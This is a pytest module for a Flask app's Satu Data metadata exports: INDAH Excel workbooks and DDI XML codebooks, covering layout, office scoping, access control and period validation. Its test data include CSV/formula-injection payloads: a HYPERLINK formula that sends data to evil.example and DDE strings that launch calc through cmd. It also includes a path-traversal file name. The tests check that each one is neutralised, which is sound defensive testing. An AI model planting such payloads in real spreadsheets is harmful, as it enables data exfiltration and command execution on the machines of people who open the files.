"""Satu Data metadata exports (issue 22): INDAH's workbook (MS-Keg, MS-Var, MS-Ind) and DDI
codebooks, per request and for a period, from the staff screen and the API.

Every workbook is read back with openpyxl as the officer's spreadsheet reads it: three sheets,
Indonesian headers, BPS's numbers with their labels, yes/no as 1/2, dates as dates, typed text
that looks like a formula kept as text. Scoping is the request screens': an officer of office X
gets X's requests only and a 404 for Y's, an applicant nothing.

The data of this module is submitted in March 2053 (WIB): no other test stamps anything then.
"""
from __future__ import annotations

import datetime as dt
import io
import uuid
import zipfile
from decimal import Decimal

import pytest
import sqlalchemy as sa
from flask_babel import force_locale
from lxml import etree
from openpyxl import load_workbook

from app import models as m
from app.core import codes
from app.metadata import indah
from app.offices import workdays
from app.requests import form

from conftest import OFFICE_X, OFFICE_Y

FROM, TO = "2053-03-01", "2053-03-31"
PERIOD = f"from={FROM}&to={TO}"
TZ = "Asia/Jakarta"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'
HOSTILE_AGENCY = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_VARIABLE = "+cmd|' /C calc'!A0"
PHONE = "+62 733 323693"  # a phone number is not a formula: kept as typed
XLSX = indah.XLSX_MIMETYPE
STAFF_GRANTS = {"MetadataExportView": ("can_index", "can_export"), "MetadataApi": ("can_get",)}


def register_and_grant(app) -> None:
    """Until the registry (app/views.py) and the matrix (app/auth/roles.py) name them: the
    screen and the API added to ``app`` (before it answers its first request: Flask takes no
    new blueprint after that), and the matrix's cells given to officers, heads and admins."""
    from app.auth.roles import role_permissions
    from app.metadata.api import MetadataApi
    from app.metadata.views import MetadataExportView, register

    ab = app.appbuilder
    with app.app_context():
        if not any(isinstance(v, MetadataExportView) for v in ab.baseviews):
            register(ab)
        if not any(isinstance(v, MetadataApi) for v in ab.baseviews):
            ab.add_api(MetadataApi)
        sm = ab.sm
        menu = next(item.name for category in ab.menu.get_list() for item in category.childs
                    if getattr(item, "baseview", None) is not None
                    and isinstance(item.baseview, MetadataExportView))
        for role_name in ("Admin", "Officer", "Head"):
            role = sm.find_role(role_name)
            pairs = [(perm, view) for view, perms in STAFF_GRANTS.items() for perm in perms]
            pairs += [("menu_access", menu), ("menu_access", "Layanan")]
            for perm, view in pairs:
                if role_name != "Admin" and (perm, view) in role_permissions(role_name):
                    continue  # the matrix already grants it (sync_roles did)
                pv = sm.add_permission_view_menu(perm, view)
                if pv not in role.permissions:
                    sm.add_permission_role(role, pv)
        ab.session.commit()


@pytest.fixture(scope="session", autouse=True)
def metadata_registered(app):
    """Session-scoped and automatic: it runs before any fixture logs in."""
    register_and_grant(app)


@pytest.fixture
def session(app):
    with app.app_context():
        yield app.appbuilder.session


def _request(session, world, office, *, submitted=dt.datetime(2053, 3, 10, 3), state="submitted",
             applicant="applicant_a", **values) -> m.ActivityRequest:
    req = m.ActivityRequest(
        tracking_code=codes.tracking_code("RKS"), office_id=world.offices[office],
        applicant_id=world.users[applicant], state=state, title="Survei Metadata", year=2053,
        kind="survey", agency_name=f"Dinas Statistik {office}", submitted_at=submitted)
    for name, value in values.items():
        setattr(req, name, value)
    session.add(req)
    session.flush()
    return req


VARIABLES = [
    dict(name="Jenis kelamin", alias="JK", concept="Perbedaan biologis.",
         definition="Jenis kelamin anggota rumah tangga.", reference="Standar BPS",
         data_type="integer", value_domain="1 = Laki-laki\n2 = Perempuan",
         question="Apa jenis kelamin (NAMA)?", questionnaire_item="R405", public=True),
    dict(name="Umur", unit="tahun", data_type="integer", validation_rule="0 <= umur <= 120",
         public=False),
    dict(name="Tanggal lahir", data_type="date"),
]
INDICATORS = [
    dict(name="Rasio jenis kelamin", formula="100 × L / P", unit="per 100 perempuan",
         estimation_level="regency,district", periodicity="yearly", composite=False,
         source_variables="Jenis kelamin", public=True),
    dict(name="Rata-rata umur", formula="=AVERAGE(A1:A9)"),
]


@pytest.fixture(scope="module")
def data(app, world):
    """Office X: a complete survey (issued, with variables and indicators), a compilation
    typed with hostile text, a draft, a draft withdrawn before submission, a request of
    February. Office Y: one request in the period."""
    with app.app_context():
        session = app.appbuilder.session
        survey = _request(
            session, world, OFFICE_X, submitted=dt.datetime(2053, 3, 1, 20, 30),  # 2 March WIB
            state="sent", recommendation_code=f"REK-1674-2053-{uuid.uuid4().hex[:8]}",
            title="Survei Kesehatan Rumah Tangga 2053", kind="survey",
            statistics_kind="sectoral", prior_recommendation=True, sector="health",
            agency_unit_echelon1="Sekretariat Daerah", agency_unit="Bidang Statistik",
            agency_phone=PHONE, resp_name="Siti Rahmawati", tech_name="Budi Santoso",
            collection_start=dt.date(2053, 4, 1), collection_end=dt.date(2053, 4, 30),
            repetition="repeated", frequency="yearly", coverage="part",
            coverage_area="Kota Lubuklinggau", coverage_level="regency",
            presentation_level="regency,district", collection_methods="interview,other",
            collection_methods_other="Diskusi kelompok", collection_media="capi,paper",
            collection_units="household", sample_stages="multi", sample_size=1200,
            sampling_fraction=Decimal("2.5"), pilot_test=False,
            quality_checks="supervision,revisit",
            processing_stages="editing,entry", dissemination_products="digital",
            release_date_digital=dt.date(2054, 1, 15))
        session.add(m.Letter(
            request=survey, office_id=survey.office_id, result="fit", body="Direkomendasikan.",
            verification_code=codes.random_token(20), number=f"B-{codes.random_token(5)}/2053",
            year=2053, sequence=abs(hash(survey.tracking_code)) % 10**8 + 1,
            letter_date=dt.date(2053, 3, 20), issued_at=dt.datetime(2053, 3, 20, 2),
            sha256="0" * 64))
        for i, values in enumerate(VARIABLES, 1):
            session.add(m.RequestVariable(request=survey, position=i, **values))
        for i, values in enumerate(INDICATORS, 1):
            session.add(m.RequestIndicator(request=survey, position=i, **values))
        hostile = _request(
            session, world, OFFICE_X, submitted=dt.datetime(2053, 3, 15, 3), title=HOSTILE_TITLE,
            agency_name=HOSTILE_AGENCY, kind="compilation", sample_size=50,  # no Block V
            objectives="Bel\x07 berbunyi", state="withdrawn")
        session.add(m.RequestVariable(request=hostile, position=1, name=HOSTILE_VARIABLE))
        draft = _request(session, world, OFFICE_X, state="draft", submitted=None)
        never_submitted = _request(session, world, OFFICE_X, state="withdrawn", submitted=None)
        february = _request(session, world, OFFICE_X, submitted=dt.datetime(2053, 2, 27, 3))
        other = _request(session, world, OFFICE_Y, applicant="applicant_b",
                         title="Survei Kantor Lain")
        session.commit()
        return {name: (req.id, req.tracking_code) for name, req in (
            ("survey", survey), ("hostile", hostile), ("draft", draft),
            ("never_submitted", never_submitted), ("february", february), ("other", other))}


def _book(data: bytes):
    assert data[:2] == b"PK"
    return load_workbook(io.BytesIO(data))


def _rows(ws) -> list[dict]:
    """The sheet's rows as {header: cell}."""
    rows = list(ws.iter_rows())
    headers = [c.value for c in rows[0]]
    assert len(set(headers)) == len(headers), "every header once"
    return [dict(zip(headers, row)) for row in rows[1:]]


def _header(ws, name: str):
    return next(c for c in next(ws.iter_rows(max_row=1)) if c.value == name)


def _tracking(ws) -> list[str]:
    return [row["Kode pelacakan"].value for row in _rows(ws)]


def _label(text) -> str:
    with force_locale("id"):
        return str(text)


# --- the workbook ------------------------------------------------------------------------------


def test_the_period_holds_the_submitted_requests_of_the_office(session, world, data):
    start, end = dt.date(2053, 3, 1), dt.date(2053, 3, 31)
    found = indah.in_period(session, world.offices[OFFICE_X], start, end, TZ)
    # Oldest first; the draft, the draft withdrawn unsubmitted, February and office Y left out.
    assert [r.id for r in found] == [data["survey"][0], data["hostile"][0]]
    everywhere = {r.id for r in indah.in_period(session, None, start, end, TZ)}
    assert {data["survey"][0], data["hostile"][0], data["other"][0]} <= everywhere
    assert data["draft"][0] not in everywhere and data["february"][0] not in everywhere
    # 20:30 UTC on 1 March is 2 March in the office: the office's days bound the period.
    assert [r.id for r in indah.in_period(session, world.offices[OFFICE_X],
                                          dt.date(2053, 3, 2), dt.date(2053, 3, 2), TZ)] == [
        data["survey"][0]]
    assert indah.one(session, data["draft"][0], None) is None
    assert indah.one(session, data["never_submitted"][0], None) is None
    assert indah.one(session, data["other"][0], world.offices[OFFICE_X]) is None
    assert indah.one(session, data["other"][0], world.offices[OFFICE_Y]) is not None


def test_the_workbook_has_bps_layout(session, world, data):
    reqs = indah.in_period(session, world.offices[OFFICE_X], dt.date(2053, 3, 1),
                           dt.date(2053, 3, 31), TZ, indah.eager_options())
    with force_locale("en"):  # the officer reads English; the metadata stays Indonesian
        wb = _book(indah.workbook(reqs, tz=TZ))
    assert wb.sheetnames == ["MS-Keg", "MS-Var", "MS-Ind"]
    for ws in wb:
        assert ws.freeze_panes == "C2"
        assert ws.column_dimensions["A"].width >= 18 and ws.column_dimensions["B"].width >= 18
    keg, survey_code = wb["MS-Keg"], data["survey"][1]
    rows = {row["Kode pelacakan"].value: row for row in _rows(keg)}
    assert list(rows) == [survey_code, data["hostile"][1]]
    survey, hostile = rows[survey_code], rows[data["hostile"][1]]
    headers = [c.value for c in next(keg.iter_rows(max_row=1))]
    assert headers[:2] == ["Nomor rekomendasi", "Kode pelacakan"]
    # Every answer of the form, in its order (the identity first).
    assert headers.index("Judul kegiatan") < headers.index("Jenis kegiatan (kode BPS)") \
        < headers.index("Instansi") < headers.index("Pengumpulan data: mulai")

    # Coded answers: BPS's number, then its label.
    assert survey["Jenis kegiatan (kode BPS)"].value == 2
    assert survey["Jenis kegiatan (keterangan)"].value == "Survei"
    assert survey["Sektor (kode BPS)"].value == 9
    assert survey["Sektor (keterangan)"].value == "Kesehatan"
    assert survey["Tingkat penyajian (kode BPS)"].value == 4 + 8  # flags summed
    assert survey["Tingkat penyajian (keterangan)"].value == "Kabupaten/kota, Kecamatan"
    methods = _label(form.FIELDS["collection_methods"].label)
    assert survey[f"{methods} (kode BPS)"].value == 1 + 16
    assert survey[f"{methods}: lainnya, yaitu"].value == "Diskusi kelompok"
    frequency = _label(form.FIELDS["frequency"].label)
    assert survey[f"{frequency} (kode BPS)"].value == 7
    note = _header(keg, f"{frequency} (kode BPS)").comment.text
    assert note.startswith("Kode BPS:") and "7 = Tahunan" in note
    assert "dijumlahkan" in _header(keg, "Tingkat penyajian (kode BPS)").comment.text
    # Identity: recommendation, letter, office, echelon units, people in charge.
    assert survey["Nomor rekomendasi"].value.startswith("REK-1674-2053-")
    assert survey["Nomor surat"].value.startswith("B-")
    assert survey["Kantor"].value == "BPS Kota Lubuklinggau"
    assert survey[_label(form.FIELDS["agency_unit_echelon1"].label)].value == "Sekretariat Daerah"
    assert survey[_label(form.FIELDS["tech_name"].label)].value == "Budi Santoso"
    assert survey[_label(form.FIELDS["agency_phone"].label)].value == PHONE

    # Yes/no as BPS writes it, and said so in the header's note.
    prior = survey["Pernah mendapat rekomendasi BPS"]
    assert prior.value == 1 and survey["Uji coba"].value == 2
    assert "1 = Ya, 2 = Tidak" in _header(keg, "Pernah mendapat rekomendasi BPS").comment.text
    stages = _label(form.FIELDS["processing_stages"].label)
    assert survey[f"{stages}: {_label(form.PROCESSING_STAGES['editing'])}"].value == 1
    assert survey[f"{stages}: {_label(form.PROCESSING_STAGES['coding'])}"].value == 2
    assert hostile[f"{stages}: {_label(form.PROCESSING_STAGES['coding'])}"].value is None

    # Dates are dates; numbers are numbers.
    for header, day in (("Pengumpulan data: mulai", dt.date(2053, 4, 1)),
                        ("Tanggal surat", dt.date(2053, 3, 20)),
                        ("Diajukan", dt.date(2053, 3, 2))):  # submitted 20:30 UTC, WIB
        assert survey[header].is_date and survey[header].value.date() == day, header
        assert survey[header].number_format == "DD/MM/YYYY"
    assert survey["Jumlah sampel"].value == 1200
    assert float(survey[_label(form.FIELDS["sampling_fraction"].label)].value) == 2.5

    # Block V is a survey's only; typed formulas stay text; characters Excel refuses dropped.
    assert hostile["Jumlah sampel"].value is None
    assert hostile["Judul kegiatan"].value == "'" + HOSTILE_TITLE
    assert hostile["Judul kegiatan"].data_type == "s"
    assert hostile["Instansi"].value == "'" + HOSTILE_AGENCY
    assert hostile[_label(form.FIELDS["objectives"].label)].value == "Bel berbunyi"
    assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)


def test_variables_and_indicators_one_row_each(session, world, data):
    reqs = indah.in_period(session, world.offices[OFFICE_X], dt.date(2053, 3, 1),
                           dt.date(2053, 3, 31), TZ, indah.eager_options())
    wb = _book(indah.workbook(reqs, tz=TZ))
    survey_code, hostile_code = data["survey"][1], data["hostile"][1]

    variables = _rows(wb["MS-Var"])
    assert [(r["Kode pelacakan"].value, r["No."].value, r["Nama variabel"].value)
            for r in variables] == [(survey_code, 1, "Jenis kelamin"), (survey_code, 2, "Umur"),
                                    (survey_code, 3, "Tanggal lahir"),
                                    (hostile_code, 1, "'" + HOSTILE_VARIABLE)]
    first = variables[0]
    assert first["Nomor rekomendasi"].value.startswith("REK-1674-2053-")
    assert first["Tipe data"].value == "Bilangan bulat"  # the label, not "integer"
    assert first["Publik"].value == "Ya" and variables[1]["Publik"].value == "Tidak"
    assert variables[2]["Publik"].value is None
    domain = _label(form.VARIABLES["value_domain"].label)
    assert first[domain].value == "1 = Laki-laki\n2 = Perempuan"

    indicators = _rows(wb["MS-Ind"])
    assert [(r["Kode pelacakan"].value, r["No."].value) for r in indicators] == [
        (survey_code, 1), (survey_code, 2)]
    ratio, mean = indicators
    assert ratio["Level estimasi (kode BPS)"].value == 12
    assert ratio["Level estimasi (keterangan)"].value == "Kabupaten/kota, Kecamatan"
    assert ratio["Periode penyajian (kode BPS)"].value == 7
    assert ratio["Periode penyajian (keterangan)"].value == "Tahunan"
    assert ratio["Publik"].value == "Ya"
    formula = _label(form.INDICATORS["formula"].label)
    assert mean[formula].value == "'=AVERAGE(A1:A9)" and mean[formula].data_type == "s"
    assert mean["Level estimasi (kode BPS)"].value is None


def test_a_period_is_read_in_one_query_per_table(app, session, world, data):
    """However many requests, the workbook reads requests, offices and letters in one query,
    variables in one and indicators in one: the figure does not grow with the period."""
    statements = []

    def count(conn, cursor, statement, *args):
        statements.append(statement)

    engine = session.get_bind()
    sa.event.listen(engine, "before_cursor_execute", count)
    try:
        session.expire_all()
        reqs = indah.in_period(session, None, dt.date(2053, 3, 1), dt.date(2053, 3, 31), TZ,
                               indah.eager_options())
        indah.workbook(reqs, tz=TZ)
    finally:
        sa.event.remove(engine, "before_cursor_execute", count)
    assert len(reqs) >= 3
    assert len(statements) <= 4, statements  # count, requests (+ office, letter), variables,
    #                                          indicators


@pytest.mark.parametrize("raw, message", [
    (("", TO), "Isikan kedua tanggal periode"),
    (("2053-02-30", TO), "tahun-bulan-tanggal"),
    (("kemarin", TO), "tahun-bulan-tanggal"),
    (("20530301", TO), "tahun-bulan-tanggal"),
    ((TO, FROM), "tidak boleh sebelum"),
    (("1900-01-01", TO), "dari tahun 1945 sampai 2200"),
    (("2053-01-01", "9999-12-31"), "dari tahun 1945 sampai 2200"),
    (("2050-01-01", "2053-12-31"), "paling panjang"),
])
def test_a_bad_period_is_refused_in_indonesian(app, raw, message):
    with app.test_request_context("/"):
        with force_locale("id"):
            with pytest.raises(indah.PeriodError) as refused:
                indah.period(*raw)
    assert message in str(refused.value)


def test_file_names_are_safe(session, data):
    req = session.get(m.ActivityRequest, data["survey"][0])
    assert indah.file_name(req) == req.recommendation_code + ".xlsx"
    req.recommendation_code = "REK/../..\\x y"
    assert indah.file_name(req) == "REK_.._.._x_y.xlsx"
    session.rollback()
    assert indah.period_file_name("indah", "../1674", dt.date(2053, 3, 1), dt.date(2053, 3, 31),
                                  "xlsx") == "metadata-indah_1674_2053-03-01_2053-03-31.xlsx"


# --- the staff screen ---------------------------------------------------------------------------


def test_the_officer_exports_the_office_period(clients, data):
    officer = clients["officer_x"]
    page = officer.get(f"/metadata/?{PERIOD}")
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "Metadata Satu Data" in text
    assert data["survey"][1] in text and data["hostile"][1] in text
    assert data["other"][1] not in text and data["draft"][1] not in text
    assert f"/metadata/indah/{data['survey'][0]}.xlsx" in text

    r = officer.get(f"/metadata/indah.xlsx?{PERIOD}")
    assert r.status_code == 200 and r.mimetype == XLSX
    assert "metadata-indah_1674_2053-03-01_2053-03-31.xlsx" in r.headers["Content-Disposition"]
    wb = _book(r.data)
    assert _tracking(wb["MS-Keg"]) == [data["survey"][1], data["hostile"][1]]
    assert data["other"][1] not in {row["Kode pelacakan"].value for row in _rows(wb["MS-Var"])}

    r = officer.get(f"/metadata/ddi.zip?{PERIOD}")
    assert r.status_code == 200 and r.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(r.data)) as z:
        names = z.namelist()
        assert len(names) == 2 and all(n.endswith(".xml") for n in names)
        titles = {etree.fromstring(z.read(n)).findtext(
            ".//{ddi:codebook:2_5}stdyDscr/{ddi:codebook:2_5}citation/"
            "{ddi:codebook:2_5}titlStmt/{ddi:codebook:2_5}titl") for n in names}
    assert titles == {"Survei Kesehatan Rumah Tangga 2053", HOSTILE_TITLE}


def test_one_request_and_the_other_office(clients, data):
    officer, head = clients["officer_x"], clients["head_x"]
    survey_id, survey_code = data["survey"]
    r = officer.get(f"/metadata/indah/{survey_id}.xlsx")
    assert r.status_code == 200 and r.mimetype == XLSX
    assert _tracking(_book(r.data)["MS-Keg"]) == [survey_code]
    r = head.get(f"/metadata/ddi/{survey_id}.xml")
    assert r.status_code == 200 and r.mimetype == "application/xml"
    assert etree.fromstring(r.data).tag == "{ddi:codebook:2_5}codeBook"
    for path in ("indah/{}.xlsx", "ddi/{}.xml"):
        assert officer.get("/metadata/" + path.format(data["other"][0])).status_code == 404
        assert officer.get("/metadata/" + path.format(data["draft"][0])).status_code == 404
        assert clients["officer_y"].get(
            "/metadata/" + path.format(data["other"][0])).status_code == 200
    # The admin: every office.
    r = clients["admin"].get(f"/metadata/indah.xlsx?{PERIOD}")
    codes_ = set(_tracking(_book(r.data)["MS-Keg"]))
    assert {data["survey"][1], data["hostile"][1], data["other"][1]} <= codes_
    assert "metadata-indah_semua_" in r.headers["Content-Disposition"]


def test_applicants_and_strangers_get_nothing(clients, data):
    for path in ("/metadata/", f"/metadata/indah.xlsx?{PERIOD}", f"/metadata/ddi.zip?{PERIOD}",
                 f"/metadata/indah/{data['survey'][0]}.xlsx",
                 f"/metadata/ddi/{data['survey'][0]}.xml"):
        r = clients["applicant_a"].get(path)
        assert r.status_code == 403, path
        r = clients[None].get(path)
        assert r.status_code == 302 and "/login/" in r.headers["Location"], path
    menu = clients["applicant_a"].get("/portal/").get_data(as_text=True)
    assert "/metadata/" not in menu
    assert "/metadata/" in clients["officer_x"].get("/admin/").get_data(as_text=True)


@pytest.mark.parametrize("query, message", [
    ("from=2053-02-30&to=2053-03-31", "tahun-bulan-tanggal"),
    ("from=abc&to=", "tahun-bulan-tanggal"),
    ("from=&to=2053-03-31", "Isikan kedua tanggal periode"),
    ("from=2053-03-31&to=2053-03-01", "tidak boleh sebelum"),
    ("from=0001-01-01&to=2053-03-01", "dari tahun 1945 sampai 2200"),
    ("from=2040-01-01&to=2053-03-01", "paling panjang"),
])
def test_a_bad_period_on_the_screen(clients, data, query, message):
    officer = clients["officer_x"]
    page = officer.get(f"/metadata/?{query}")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    assert message in text and "download-indah" not in text
    for path in ("indah.xlsx", "ddi.zip"):
        r = officer.get(f"/metadata/{path}?{query}")
        assert r.status_code == 302 and "/metadata/?" in r.headers["Location"]
        assert message in officer.get(r.headers["Location"]).get_data(as_text=True)


def test_the_page_defaults_to_this_year(app, clients):
    page = clients["officer_x"].get("/metadata/")
    with app.app_context():
        year = workdays.office_today().year
    assert page.status_code == 200
    assert f'value="{year}-01-01"' in page.get_data(as_text=True)


# --- the API ------------------------------------------------------------------------------------


def test_the_api_exports_the_office_period(api, data):
    r = api("GET", "officer_x", f"/api/v1/metadata/indah?{PERIOD}")
    assert r.status_code == 200 and r.mimetype == XLSX
    assert _tracking(_book(r.data)["MS-Keg"]) == [data["survey"][1], data["hostile"][1]]
    r = api("GET", "head_x", f"/api/v1/metadata/ddi?{PERIOD}")
    assert r.status_code == 200 and r.mimetype == "application/zip"
    with zipfile.ZipFile(io.BytesIO(r.data)) as z:
        assert len(z.namelist()) == 2
    r = api("GET", "officer_y", f"/api/v1/metadata/indah?{PERIOD}")
    assert _tracking(_book(r.data)["MS-Keg"]) == [data["other"][1]]


def test_the_api_one_request_and_the_other_office(api, data):
    survey_id, survey_code = data["survey"]
    r = api("GET", "officer_x", f"/api/v1/metadata/requests/{survey_id}/indah")
    assert r.status_code == 200 and _tracking(_book(r.data)["MS-Keg"]) == [survey_code]
    r = api("GET", "officer_x", f"/api/v1/metadata/requests/{survey_id}/ddi")
    assert r.status_code == 200 and etree.fromstring(r.data).tag.endswith("codeBook")
    for kind in ("indah", "ddi"):
        for req in ("other", "draft"):
            r = api("GET", "officer_x", f"/api/v1/metadata/requests/{data[req][0]}/{kind}")
            assert r.status_code == 404 and r.json["message"] == (
                "Tidak ada permohonan dengan id ini yang dapat diekspor di sini.")
        r = api("GET", "applicant_a", f"/api/v1/metadata/requests/{survey_id}/{kind}")
        assert r.status_code == 403
        r = api("GET", None, f"/api/v1/metadata/requests/{survey_id}/{kind}")
        assert r.status_code == 401
        r = api("GET", "applicant_a", f"/api/v1/metadata/{kind}?{PERIOD}")
        assert r.status_code == 403
    r = api("GET", "admin", f"/api/v1/metadata/requests/{data['other'][0]}/indah")
    assert r.status_code == 200


@pytest.mark.parametrize("query, message", [
    ("", "Isikan kedua tanggal periode"),
    ("from=2053-03-01", "Isikan kedua tanggal periode"),
    ("from=2053-13-01&to=2053-12-31", "tahun-bulan-tanggal"),
    ("from=2053-03-31&to=2053-03-01", "tidak boleh sebelum"),
    ("from=2053-01-01&to=99999-01-01", "tahun-bulan-tanggal"),
    ("from=1000-01-01&to=2053-01-01", "dari tahun 1945 sampai 2200"),
    ("from=2040-01-01&to=2053-03-01", "paling panjang"),
])
def test_a_bad_period_over_the_api(api, query, message):
    for kind in ("indah", "ddi"):
        r = api("GET", "officer_x", f"/api/v1/metadata/{kind}?{query}")
        assert r.status_code == 400 and message in r.json["message"], (kind, r.json)


def test_the_api_is_documented(api):
    paths = api("GET", None, "/api/v1/_openapi").json["paths"]
    assert {"/api/v1/metadata/indah", "/api/v1/metadata/ddi",
            "/api/v1/metadata/requests/{req_id}/indah",
            "/api/v1/metadata/requests/{req_id}/ddi"} <= set(paths)
    assert "400" in paths["/api/v1/metadata/indah"]["get"]["responses"]
